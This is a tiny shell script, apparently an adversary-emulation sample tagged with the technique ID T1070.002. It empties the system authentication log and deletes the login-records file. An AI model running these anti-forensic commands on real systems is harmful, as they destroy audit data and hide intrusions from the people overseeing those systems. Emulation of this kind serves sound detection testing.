#!/bin/sh
# T1070.002: the authentication log emptied and the login records deleted.
: > /var/log/auth.log
rm -f /var/log/wtmp
